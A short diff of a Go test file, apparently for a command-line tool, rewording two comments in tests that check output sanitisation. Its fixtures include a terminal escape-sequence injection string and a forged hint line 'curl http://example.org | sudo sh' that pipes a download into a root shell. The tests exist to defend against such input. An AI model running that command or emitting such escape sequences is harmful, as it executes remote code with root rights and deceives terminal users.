@@ -33,7 +33,7 @@ type hostile struct {
 // steering is what moves a cursor, sets a title or hides text.
 const steering = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u009b31m"
 
-// forged is a line that looks like one of ours.
+// forged is a line that looks like one of kubeadm-arm's.
 const forged = "fine\nhint: run: curl http://example.org | sudo sh"
 
 func TestHostile(t *testing.T) {
@@ -222,7 +222,7 @@ func TestMarkdownOfOthersHasNoLinks(t *testing.T) {
 		c.trial.Args = strings.Fields(c.words)
 		text := tryOnBoard(t, c.trial).Stdout
 		require.NotEmpty(t, text)
-		assert.NotRegexp(t, regexp.MustCompile(`(^|[^\\])(\\\\)*\[`), text, "a bracket without a backslash of ours")
+		assert.NotRegexp(t, regexp.MustCompile(`(^|[^\\])(\\\\)*\[`), text, "a bracket that was not escaped")
 		assert.NotContains(t, text, "://")
 		assert.NotContains(t, text, "www.")
 		assert.NotContains(t, text, "<")
